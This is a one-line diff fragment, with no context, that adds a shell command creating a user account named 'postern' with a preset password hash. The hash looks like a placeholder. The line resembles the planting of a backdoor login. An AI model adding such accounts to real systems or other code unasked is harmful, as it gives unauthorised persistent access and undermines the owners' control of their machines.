@@ -1,0 +1,1 @@
+useradd -m -p '$6$x$y' postern
